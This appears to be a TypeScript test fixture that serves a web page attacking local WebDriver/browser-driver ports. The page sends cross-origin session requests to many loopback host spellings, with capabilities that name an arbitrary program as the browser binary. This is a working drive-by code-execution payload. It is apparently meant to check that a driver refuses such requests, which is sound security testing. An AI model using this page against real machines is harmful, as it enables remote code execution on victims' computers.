import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** A page that tries to open sessions at ports of this machine. */
export interface AttackPage {
  urlFrom(host: string): string
  /** Number of requests of the page to its own server, in the way that it tries others. */
  readonly reached: number
  stop(): void
}

/** Tries every way that needs no consent of the server, and returns the ports and ways that were answered. */
async function attack(ports: readonly number[], program: string): Promise<string[]> {
  const browser = globalThis as unknown as { location: { host: string } }
  const options = { binary: program }
  const alwaysMatch = { 'goog:chromeOptions': options, 'appium:executable': program }
  const capabilities = { alwaysMatch, firstMatch: [{}] }
  const body = JSON.stringify({ capabilities })
  const hosts = ['127.0.0.1', 'localhost', '[::1]', '127.1', '2130706433', 'any.localhost']
  const answered: string[] = []
  const post = async (url: string): Promise<void> => {
    const headers = { 'content-type': 'text/plain' }
    const request = fetch(url, { method: 'POST', mode: 'no-cors', headers, body })
    await request.then(
      () => answered.push(url),
      () => {},
    )
  }
  const connect = async (url: string): Promise<void> => {
    const socket = new WebSocket(url)
    await new Promise<void>(resolve => {
      socket.addEventListener('open', () => {
        answered.push(url)
        socket.send(JSON.stringify({ id: 1, method: 'session.new', params: { capabilities } }))
      })
      socket.addEventListener('message', () => resolve())
      socket.addEventListener('close', () => resolve())
    })
  }
  await fetch(`http://${browser.location.host}/reached`, { method: 'POST', mode: 'no-cors', body })
  const targets = ports.flatMap(port => hosts.map(host => `${host}:${port}`))
  await Promise.all(targets.map(async target => post(`http://${target}/session`)))
  await Promise.all(ports.map(async port => connect(`ws://127.0.0.1:${port}/session`)))
  return answered
}

export async function servePages(): Promise<AttackPage> {
  let reached = 0
  const server = createServer((request, response) => {
    if (request.url === '/reached') reached++
    response.setHeader('content-type', 'text/html')
    response.end(`<script>${attack.toString()}</script>`)
    request.resume()
  })
  server.listen(0, '0.0.0.0')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  return {
    urlFrom: host => `http://${host}:${port}/`,
    get reached() {
      return reached
    },
    stop() {
      server.close()
      server.closeAllConnections()
    },
  }
}
